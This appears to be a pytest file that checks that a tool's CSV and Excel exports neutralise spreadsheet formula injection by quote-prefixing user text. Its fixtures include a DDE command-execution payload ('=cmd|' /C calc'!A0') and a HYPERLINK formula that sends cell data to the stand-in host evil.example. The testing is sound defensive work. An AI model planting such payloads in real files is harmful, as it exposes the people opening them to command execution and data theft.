"""Formula injection: user text starting with '=', '+', '-', '@' never becomes a live formula in our exports."""

from __future__ import annotations

import csv
import zipfile

import openpyxl
import pytest

from intlmon.lib.neutralise import csv_row, for_csv, is_risky, needs_quote_prefix, restore

ATTACKS = ["=1+2", "+7 701 000", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "  =HYPERLINK(\"http://x\")",
           "\t=1", "＝1+1"]
HARMLESS = ["Université de Lorraine", "7M04107 Экономика", "a=b", "5 лет", "", "'quoted"]


@pytest.mark.parametrize("text", ATTACKS)
def test_it_prefixes_risky_text_for_csv_and_can_restore_it(text):
    assert is_risky(text) and needs_quote_prefix(text)
    assert for_csv(text) == "'" + text
    assert restore(for_csv(text)) == text


@pytest.mark.parametrize("value", [*HARMLESS, 12, -4, 3.5, None])
def test_it_leaves_harmless_values_alone(value):
    assert not is_risky(value)
    assert for_csv(value) == value and restore(value) == value


def test_it_neutralises_every_value_of_a_csv_row():
    assert csv_row({"raw": "=1+2", "id": "lorraine", "score": 97.5}) == {"raw": "'=1+2", "id": "lorraine", "score": 97.5}


@pytest.mark.django_db
def test_it_writes_risky_template_text_as_quote_prefixed_strings_that_read_back_unchanged(tmp_path):
    from intlmon.collection.reader import read_workbook
    from intlmon.collection.sections import SECTION_BY_KEY
    from intlmon.collection.template import sheet_name, write_template
    from tests.collection import make_registry

    make_registry()
    partner = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Sorbonne\")"
    path = write_template(tmp_path / "f.xlsx", 2024, "ru", institution="kaznu", rows={"double_degree_programmes": [
        {"level": "master", "programme": "-7M04107 Экономика", "partner": partner, "country": "FR", "enrolment": 3}]})
    sheet = sheet_name(SECTION_BY_KEY["double_degree_programmes"], "ru")
    ws = openpyxl.load_workbook(path)[sheet]
    assert (ws["C3"].value, ws["C3"].data_type, ws["C3"].quotePrefix) == (partner, "s", True)
    assert ws["B3"].quotePrefix and not ws["A3"].quotePrefix  # 'магистратура' is harmless
    with zipfile.ZipFile(path) as z:
        sheet_xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheet_xml
    row = read_workbook(path).sections["double_degree_programmes"][0]
    assert row.raw("partner") == partner and row.raw("programme") == "-7M04107 Экономика"


def test_it_marks_risky_text_in_the_annotated_copy(tmp_path):
    from intlmon.collection.annotate import annotate_workbook

    source = tmp_path / "in.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "S"
    wb.active["A1"].value = "ok"
    wb.active["A2"].value = "@SUM(1)"  # openpyxl keeps '@…' a string
    wb.save(source)
    annotate_workbook(source, [], tmp_path / "out.xlsx")
    out = openpyxl.load_workbook(tmp_path / "out.xlsx")["S"]
    assert out["A2"].value == "@SUM(1)" and out["A2"].quotePrefix and not out["A1"].quotePrefix


@pytest.mark.django_db
def test_it_neutralises_the_resolve_csv_output(tmp_path, cli):
    src = tmp_path / "in.csv"
    src.write_text("raw,note\n=cmd|' /C calc'!A0,-5\nSorbonne,ok\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    assert cli(["resolve", "organisations", str(src), "-o", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["raw"], r["note"]) for r in rows] == [("'=cmd|' /C calc'!A0", "'-5"), ("Sorbonne", "ok")]
